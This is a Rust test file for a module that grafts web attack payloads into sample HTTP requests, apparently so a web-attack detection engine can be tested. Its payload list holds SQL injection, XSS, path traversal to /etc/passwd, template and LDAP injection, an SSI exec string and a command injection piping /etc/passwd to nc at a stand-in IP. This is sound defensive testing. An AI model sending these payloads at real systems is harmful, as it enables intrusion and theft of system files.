//! What grafting must hold: the same seed gives the same requests, every payload that is sent plainly is found whole
//! by the engine's view, and every request passes the wire validator.

use std::sync::Arc;

use portcullis_detect::view::{self, Limits, Scratch};

use super::*;
use crate::command::eval::request::{plain, set, set_body};

fn bases() -> Bases {
    let mut json = plain("PUT", "/v4/items/7?page=1");
    set_body(
        &mut json,
        "application/json",
        br#"{"label":"go-test","size":20,"tags":["a","b"],"deep":{"on":true}}"#.to_vec(),
    );
    let mut form = plain("POST", "/save");
    set_body(
        &mut form,
        "application/x-www-form-urlencoded",
        b"name=Jane+Doe&mail=jane%40example.com".to_vec(),
    );
    let mut browsed = plain("GET", "/shop/list?category=tea&sort=price");
    set(&mut browsed, "cookie", "sid=4711; theme=dark");
    Bases::of(vec![json, form, browsed])
}

fn payload(text: &str, class: Class) -> Payload {
    Payload {
        text: text.to_owned(),
        folder: Arc::from("made/up"),
        class: Some(class),
    }
}

const TEXTS: &[(&str, Class)] = &[
    ("' or '1'='1' -- ", Class::Sql),
    ("1;select \"a\"&b=c#x+y", Class::Sql),
    ("<script>alert(1)</script>", Class::Xss),
    ("../../etc/passwd", Class::Traversal),
    ("; cat /etc/passwd | nc 1.2.3.4 80", Class::Command),
    ("{{7*'7'}}", Class::Template),
    ("*)(uid=*))(|(uid=*", Class::Ldap),
    ("<!--#exec cmd=\"id\" -->", Class::Ssi),
    ("a\tb\u{1}c", Class::Sql),
    ("schön’ or 100%", Class::Sql),
];

/// What a correct parser reads there.
fn readings(request: &OwnedRequest) -> Vec<String> {
    let mut scratch = Scratch::default();
    request.with(|request| {
        view::read(&mut scratch, request, &Limits::default());
        let mut readings = Vec::new();
        for field in scratch.fields() {
            let bytes = field.value.bytes(request, scratch.arena());
            let text = String::from_utf8_lossy(bytes).into_owned();
            readings.push(crate::command::eval::text::form_decoded(&text));
            readings.push(crate::command::eval::text::form_decoded(
                &text.replace('+', "%2B"),
            ));
            readings.extend(serde_json::from_str::<String>(&format!("\"{text}\"")));
            readings.push(text);
        }
        readings
    })
}

#[test]
fn the_same_seed_gives_the_same_requests() {
    let bases = bases();
    for (index, (text, class)) in TEXTS.iter().enumerate() {
        let payload = payload(text, *class);
        let of = |seed| graft(&payload, &bases, &mut Random::of(seed, index)).unwrap();
        assert_eq!(of(1).request, of(1).request, "{text}");
    }
    let payload = payload("' or 1=1", Class::Sql);
    let of = |seed| {
        graft(&payload, &bases, &mut Random::of(seed, 0))
            .unwrap()
            .request
    };
    assert!((2..12).any(|seed| of(seed) != of(1)));
}

#[test]
fn every_plain_payload_is_found_whole_and_passes_the_wire() {
    let bases = bases();
    for (text, class) in TEXTS {
        let payload = payload(text, *class);
        for index in 0..200 {
            let grafted = graft(&payload, &bases, &mut Random::of(7, index)).unwrap();
            assert_eq!(refused(&bytes_of(&grafted.request)), None, "{text}");
            if !matches!(grafted.encoding, Encoding::Plain | Encoding::Plus) {
                continue;
            }
            let readings = readings(&grafted.request);
            assert!(
                readings.iter().any(|reading| reading.contains(text.trim())),
                "{text:?} in {:?}, {:?}: {:?}",
                grafted.zone,
                grafted.encoding,
                String::from_utf8_lossy(&bytes_of(&grafted.request))
            );
        }
    }
}

#[test]
fn a_zone_that_cannot_carry_the_payload_is_not_used() {
    let bases = bases();
    let payload = payload("a\r\nb", Class::Command);
    for index in 0..200 {
        let grafted = graft(&payload, &bases, &mut Random::of(3, index)).unwrap();
        let plain_header = grafted.zone == Zone::Header && grafted.encoding == Encoding::Plain;
        assert!(!plain_header, "a line break would end the header");
    }
}

#[test]
fn whole_documents_targets_and_operators_go_where_they_belong() {
    let bases = bases();
    let document = payload("<?xml version=\"1.0\"?><a/>", Class::Xml);
    let target = Payload {
        folder: Arc::from("fuzzdb/attack/rfi"),
        ..payload("/x.php?p=http://files.example.net/a.txt?", Class::Traversal)
    };
    for (payload, zone) in [(document, Zone::Xml), (target, Zone::Target)] {
        let grafted = graft(&payload, &bases, &mut Random::of(1, 1)).unwrap();
        assert_eq!(grafted.zone, zone);
    }
    let operator = payload("{\"$gt\": \"\"}", Class::Nosql);
    let json = (0..200)
        .map(|index| graft(&operator, &bases, &mut Random::of(1, index)).unwrap())
        .find(|grafted| grafted.zone == Zone::Json && grafted.encoding == Encoding::Plain)
        .unwrap();
    let body: serde_json::Value = serde_json::from_slice(&json.request.body).unwrap();
    assert!(
        body.to_string().contains(r#":{"$gt":""}"#)
            || body.to_string().contains(r#"[{"$gt":""}"#)
            || body.to_string().contains(r#",{"$gt":""}"#)
    );
}

#[test]
fn escaped_lines_are_sent_as_they_are_where_a_url_is_decoded() {
    let bases = bases();
    for (text, class) in [
        ("..%2f..%2fetc%2fpasswd", Class::Traversal),
        ("..%%35%63boot.ini", Class::Traversal),
        ("%27%20or%201=1", Class::Sql),
    ] {
        let payload = payload(text, class);
        for index in 0..60 {
            let grafted = graft(&payload, &bases, &mut Random::of(1, index)).unwrap();
            assert_eq!(grafted.encoding, Encoding::Plain);
            let sent = String::from_utf8(bytes_of(&grafted.request)).unwrap();
            assert!(sent.contains(text), "{sent}");
            let decoded = [Zone::Query, Zone::Form, Zone::Cookie, Zone::Path];
            assert!(decoded.contains(&grafted.zone));
        }
    }
}

#[test]
fn base64_is_a_value_by_itself() {
    let bases = bases();
    let payload = payload("' or 1=1", Class::Sql);
    let of = |index| graft(&payload, &bases, &mut Random::of(5, index)).unwrap();
    let encoded: Vec<Grafted> = (0..600)
        .map(of)
        .filter(|grafted| grafted.encoding == Encoding::Base64)
        .collect();
    assert!(encoded.len() > 5, "a few of six hundred");
    for grafted in encoded {
        let readings = readings(&grafted.request);
        let alone = readings.iter().any(|reading| reading == "JyBvciAxPTE=");
        assert!(alone, "{:?}", grafted.request);
    }
}

#[test]
fn encodings() {
    let cases = [
        (Encoding::Plain, Zone::Query, "a b&c", "a%20b%26c"),
        (Encoding::Plain, Zone::Query, "..%2f..%2f", "..%2f..%2f"),
        (
            Encoding::Plain,
            Zone::Query,
            "like '%adm%'",
            "like%20'%25adm%25'",
        ),
        (Encoding::Plus, Zone::Form, "a b+c", "a+b%2Bc"),
        (Encoding::Percent, Zone::Query, "a<", "%61%3C"),
        (Encoding::DoublePercent, Zone::Query, "a<", "a%253C"),
        (Encoding::PercentU, Zone::Query, "a<", "a%u003c"),
        (Encoding::Html, Zone::Json, "<a>", "&#x3c;a&#x3e;"),
        (Encoding::JsonUnicode, Zone::Json, "a\"", "\\u0061\\u0022"),
        (Encoding::Base64, Zone::Json, "' or 1=1", "JyBvciAxPTE="),
        (Encoding::Base64, Zone::Query, "' or 1=1", "JyBvciAxPTE%3D"),
    ];
    for (encoding, zone, text, expected) in cases {
        let carried = encode::apply(encoding, zone, &payload(text, Class::Xss)).unwrap();
        assert_eq!(carried, expected, "{encoding:?} {zone:?}");
    }
}
